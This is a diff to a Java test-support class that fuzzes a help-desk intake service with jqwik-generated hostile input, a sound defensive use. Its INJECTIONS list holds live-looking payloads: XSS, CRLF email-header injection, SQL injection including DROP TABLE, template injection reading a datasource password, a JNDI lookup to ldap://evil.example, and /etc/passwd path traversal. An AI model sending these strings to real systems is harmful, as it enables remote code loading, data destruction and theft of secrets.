@@ -1,4 +1,4 @@
-package dev.promesa.followup.ingest;
+package dev.promesa.testsupport;
 
 import java.nio.charset.StandardCharsets;
 import java.util.List;
@@ -12,23 +12,24 @@ import net.jqwik.api.Arbitrary;
  * jqwik generators of strings a help desk (or an attacker behind one) may send: markup, header and SQL injection,
  * template syntax, unicode that trips up renderers (RTL overrides, zero-width, combining marks, emoji), control
  * characters, NUL and unpaired surrogates, and plain random strings. Sampled with a fixed {@link Random} so a failing
- * case is reproduced by its seed.
+ * case is reproduced by its seed. Shared by the hostile-input tests of intake and followup.
  */
-final class HostileText {
-    static final List<String> INJECTIONS = List.of(
+public final class HostileText {
+    public static final List<String> INJECTIONS = List.of(
             "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "\"><b>bold</b><a href='javascript:x'>",
             "&amp; &lt;b&gt; &#x27;", "line one\r\nBcc: victim@example.com", "Subject: hi\r\n\r\nforged body",
             "'; DROP TABLE ticket; --", "' OR '1'='1", "1; SELECT pg_sleep(10)", "\\'; --", "{ticketId}",
             "{#for x in items}{x}{/for}", "{#include layout/mail /}", "{inject:mailer}",
             "{config:'quarkus.datasource.password'}", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}",
             "%s%s%n%x", "../../etc/passwd", "\\u0000", "null", "[]", "{}");
-    static final List<String> UNICODE = List.of(
+    public static final List<String> UNICODE = List.of(
             "Lucía Fernández Núñez", "مرحبا بالعالم", "שלום עולם", "\u202Egnp.exe", "\u202Bright-to-left\u202C",
             "zero\u200Bwidth\u200C\u200D\uFEFFjoiner", "👩‍👩‍👧‍👦😀🇪🇸", "e\u0301\u0301\u0301\u0301", "漢字かなカナ",
             "line\u2028sep\u2029para", "\u00A0\u3000nbsp", "Ω≈ç√∫˜µ≤", "\uFFFD\uFFFE\uFFFF", "𝕳𝖔𝖘𝖙𝖎𝖑𝖊");
-    static final List<String> CONTROL = List.of("\r\n", "\n", "\t", "\u001B[31mred", "\u0007", "\u007F", "\u0085");
+    public static final List<String> CONTROL = List.of("\r\n", "\n", "\t", "\u001B[31mred", "\u0007", "\u007F",
+            "\u0085");
     /** Cannot be stored in PostgreSQL text or encoded as UTF-8 on the topic, so intake must refuse them. */
-    static final List<String> UNSTORABLE = List.of("\u0000", "a\u0000b", "\uD800", "x\uDC00y", "\uDBFF");
+    public static final List<String> UNSTORABLE = List.of("\u0000", "a\u0000b", "\uD800", "x\uDC00y", "\uDBFF");
 
     private static final Pattern ASCII_CONTROL = Pattern.compile("\\p{Cntrl}");
 
@@ -36,7 +37,7 @@ final class HostileText {
     }
 
     /** One to four hostile fragments glued together, sometimes with plain random characters. */
-    static Arbitrary<String> any() {
+    public static Arbitrary<String> any() {
         Arbitrary<String> fragment = Arbitraries.frequencyOf(
                 net.jqwik.api.Tuple.of(4, Arbitraries.of(INJECTIONS)),
                 net.jqwik.api.Tuple.of(4, Arbitraries.of(UNICODE)),
@@ -48,7 +49,7 @@ final class HostileText {
     }
 
     /** Hostile text that is still valid Unicode free of NUL: what intake must accept in a free-text field. */
-    static Arbitrary<String> storable() {
+    public static Arbitrary<String> storable() {
         return any().filter(text -> !unstorable(text) && !text.isBlank());
     }
 
@@ -57,7 +58,7 @@ final class HostileText {
      * one seed fixes the whole sequence of cases. jqwik's engine runs no Quarkus tests, so we sample outside it; its
      * seedable source is engine-internal (runtime scope), hence the reflection.
      */
-    static Random seed(long seed) {
+    public static Random seed(long seed) {
         try {
             return (Random) Class.forName("net.jqwik.engine.SourceOfRandomness").getMethod("create", String.class)
                     .invoke(null, Long.toString(seed));
@@ -67,11 +68,11 @@ final class HostileText {
     }
 
     /** One value from jqwik's sample stream; {@code random} only documents that {@link #seed} was called. */
-    static <T> T sample(Arbitrary<T> arbitrary, Random random) {
+    public static <T> T sample(Arbitrary<T> arbitrary, Random random) {
         return arbitrary.sample();
     }
 
-    static boolean unstorable(String text) {
+    public static boolean unstorable(String text) {
         if (text.indexOf('\u0000') >= 0) {
             return true;
         }
@@ -89,12 +90,12 @@ final class HostileText {
         return false;
     }
 
-    static boolean hasAsciiControl(String text) {
+    public static boolean hasAsciiControl(String text) {
         return ASCII_CONTROL.matcher(text).find();
     }
 
     /** Percent-encodes every byte but RFC 3986's unreserved characters, for a path segment. */
-    static String pathSegment(String text) {
+    public static String pathSegment(String text) {
         StringBuilder out = new StringBuilder();
         for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
             int c = b & 0xFF;
@@ -108,7 +109,7 @@ final class HostileText {
     }
 
     /** Shows control and invisible characters, so a failure message can be read. */
-    static String visible(String text) {
+    public static String visible(String text) {
         StringBuilder out = new StringBuilder();
         text.codePoints().forEach(cp -> {
             if (cp < 0x20 || cp == 0x7F || cp >= 0x80 && cp < 0xA0 || Character.getType(cp) == Character.FORMAT
